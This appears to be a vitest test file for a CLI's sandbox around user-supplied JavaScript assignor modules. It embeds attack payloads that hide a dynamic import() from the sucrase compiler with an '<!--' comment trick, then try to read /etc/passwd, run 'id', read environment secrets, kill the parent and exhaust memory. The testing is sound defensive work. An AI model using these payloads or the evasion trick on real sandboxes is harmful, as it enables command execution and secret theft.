/**
 * The CLI's sandbox against the attacks of issue 14, each run through `replayCustomInNode`
 * as `cli replay --assignor FILE` does. Every attack reaches Node's modules with a real
 * `import()` that a comment trick hides from the compiler (`<!--` is a comment to the engine
 * but not to sucrase), so the hardening of the global is out of the way and only the process
 * boundary is tested. Each attack, if it gets through, leaves a mark the test can see: a file,
 * a request to a local server, a dead parent, memory used.
 */
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawn } from 'node:child_process';
import { replayCustomInNode, sandboxBundlePath } from './nodeRunner';
import { SMALL_SCENARIO } from './testScenario';

const SLOW = 30_000;

/** A valid assignor whose module first starts `attack` (async code with `load` = import). */
function attacking(attack: string): string {
  return `const hidden = 1 <!-- \`
const load = (name) => import(name);
// \`
load('node:fs').then(async (fs) => {
  const report = async (what) => {
    try { fs.writeFileSync(${JSON.stringify('MARK')}, String(what)); } catch {}
    try { await fetch(${JSON.stringify('URL')} + '?' + encodeURIComponent(String(what).slice(0, 100))); } catch {}
  };
  try {
    ${attack}
  } catch (error) {}
});
export default {
  name: 'attacker',
  assign(cluster, members) {
    const result = new Map([...members.keys()].map((id) => [id, { assignment: [] }]));
    for (const topic of [...new Set([...members.values()].flatMap((m) => m.subscription))].sort()) {
      const first = [...members].find(([, m]) => m.subscription.includes(topic));
      const partitions = [...(cluster.partitionsForTopic(topic) ?? [])].sort((a, b) => a - b);
      if (first) result.get(first[0]).assignment.push([topic, partitions]);
    }
    return result;
  },
};
`;
}

let server: Server;
let url: string;
const requests: string[] = [];
let directory: string;

beforeAll(async () => {
  server = createServer((request, response) => {
    requests.push(request.url ?? '');
    response.end('ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/hit`;
  directory = mkdtempSync(join(tmpdir(), 'sandbox-attack-'));
});

afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
});

/**
 * Runs `attack` in the CLI's sandbox and waits long enough for an async attack to land
 * (the same wait on an unconfined runner sees every one of them land). Returns the mark.
 */
async function attempt(name: string, attack: string): Promise<string | undefined> {
  const mark = join(directory, `${name}.mark`);
  const source = attacking(attack)
    .replace('"MARK"', JSON.stringify(mark))
    .replace('"URL"', JSON.stringify(url));
  const before = requests.length;
  const outcome = await replayCustomInNode(SMALL_SCENARIO, { fileName: 'attacker.js', source });
  expect(outcome.status).toBe('done');
  await new Promise((resolve) => setTimeout(resolve, 1500));
  if (existsSync(mark)) return `file: ${readFileSync(mark, 'utf8')}`;
  if (requests.length > before) return `request: ${requests.slice(before).join(', ')}`;
  return undefined;
}

describe('the CLI sandbox keeps an assignor file from the host', () => {
  it(
    'control: the same attack, run by the same code without confinement, gets through',
    {
      timeout: SLOW,
    },
    async () => {
      const mark = join(directory, 'control.mark');
      const source = attacking(`await report('written');`)
        .replace('"MARK"', JSON.stringify(mark))
        .replace('"URL"', JSON.stringify(url));
      const child = spawn(process.execPath, [await sandboxBundlePath()], {
        stdio: ['pipe', 'ignore', 'ignore'],
      });
      const request = {
        type: 'replay',
        id: 1,
        scenario: SMALL_SCENARIO,
        assignor: { name: 'attacker', language: 'javascript', source },
        skip: [],
      };
      child.stdin.end(`${JSON.stringify(request)}\n`);
      await new Promise((resolve) => child.on('exit', resolve));
      expect(readFileSync(mark, 'utf8')).toBe('written');
    },
  );

  it('cannot read /etc/passwd', { timeout: SLOW }, async () => {
    expect(
      await attempt('passwd', `await report(fs.readFileSync('/etc/passwd', 'utf8'));`),
    ).toBeUndefined();
  });

  it('cannot write a file', { timeout: SLOW }, async () => {
    expect(await attempt('write', `await report('written');`)).toBeUndefined();
  });

  it('cannot run a command', { timeout: SLOW }, async () => {
    const attack = `const cp = await load('node:child_process'); await report(cp.execSync('id').toString());`;
    expect(await attempt('exec', attack)).toBeUndefined();
  });

  it('cannot read the environment', { timeout: SLOW }, async () => {
    process.env.SANDBOX_TEST_SECRET = 'the-secret';
    const attack = `const p = await load('node:process'); await report('env ' + (p.env.SANDBOX_TEST_SECRET ?? 'none'));`;
    const mark = await attempt('env', attack);
    expect(mark ?? '').not.toContain('the-secret');
  });

  it('cannot make an HTTP request to a local server', { timeout: SLOW }, async () => {
    const attack = `const http = await load('node:http'); http.get(${JSON.stringify('URL')} + '?http').on('error', () => {}); await report('sent');`;
    expect(await attempt('http', attack.replace('"URL"', JSON.stringify(url)))).toBeUndefined();
  });

  it('cannot kill the CLI', { timeout: SLOW }, async () => {
    // As the CLI's own process: in the parent's PID, under its user.
    const attack = `const p = await load('node:process'); p.kill(${process.pid}, 'SIGTERM'); await report('killed');`;
    const alive = new Promise<string>((resolve) =>
      process.once('SIGTERM', () => resolve('signalled')),
    );
    const mark = await attempt('kill', attack);
    expect(mark).toBeUndefined();
    expect(await Promise.race([alive, Promise.resolve('alive')])).toBe('alive');
  });

  it('cannot start a worker thread', { timeout: SLOW }, async () => {
    const attack = `const { Worker } = await load('node:worker_threads'); new Worker('require("fs").writeFileSync(' + JSON.stringify(${JSON.stringify(join(directory, 'worker.mark'))}) + ', "w")', { eval: true }); await report('worker started');`;
    expect(await attempt('worker', attack)).toBeUndefined();
    expect(existsSync(join(directory, 'worker.mark'))).toBe(false);
  });

  it('cannot hold 4 GB in ArrayBuffers', { timeout: SLOW }, async () => {
    const attack = `const held = []; for (let i = 0; i < 16; i++) { const b = new ArrayBuffer(256 * 1024 * 1024); new Uint8Array(b).fill(1); held.push(b); } await report('held ' + held.length * 256 + ' MB');`;
    expect(await attempt('buffers', attack)).toBeUndefined();
  });
});
